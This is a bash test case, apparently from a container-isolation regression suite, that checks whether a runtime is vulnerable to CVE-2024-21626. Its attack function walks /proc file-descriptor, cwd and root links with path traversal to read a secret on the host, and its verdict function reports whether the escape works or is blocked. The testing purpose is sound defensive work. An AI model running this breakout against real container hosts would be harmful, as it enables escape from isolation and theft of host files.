# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

# Who starts or joins has a directory of the host's open, as runc once had: with it, /proc/self/fd/N is a way out.
WHAT='CVE-2024-21626: a directory of the host that whoever starts or joins has open, by /proc/self/fd'

setup() { secret >/dev/null; }

attack() {
        for process in 1 self; do
                for fd in /proc/$process/fd/* /proc/$process/cwd /proc/$process/root; do
                        busybox cat "$fd/srv/escape/secret" "$fd/../../../../../../srv/escape/secret" 2>/dev/null
                        [ ! -f "$fd" ] || busybox cat "$fd"
                done
        done </dev/null | busybox head -c 4096
}

play() {
        exec 7</ 8<"$PREY/secret"
        one_start
        exec 7<&- 8<&-
}

meanwhile() {
        cp "$TREE/escape/attack" "$TREE/escape/attack.sh"
        machine_join /bin/busybox sh /escape/attack.sh >"$PREY/joined" 2>/dev/null </dev/null || true
        local cwd
        for cwd in /proc/self/fd/7 /proc/self/fd/8 /proc/1/cwd; do
                case $RUNNER in
                nbox*) nbox exec --chdir="$cwd" "$NAME" /bin/busybox cat srv/escape/secret >>"$PREY/joined" 2>/dev/null </dev/null || true ;;
                esac
        done
}

verdict() {
        if grep -qF "$(secret)" "$OUT"; then
                works "the init has it"
        elif grep -qF "$(secret)" "$PREY/joined"; then
                works "what joins has it"
        else
                blocked "neither init nor what joins has one"
        fi
}
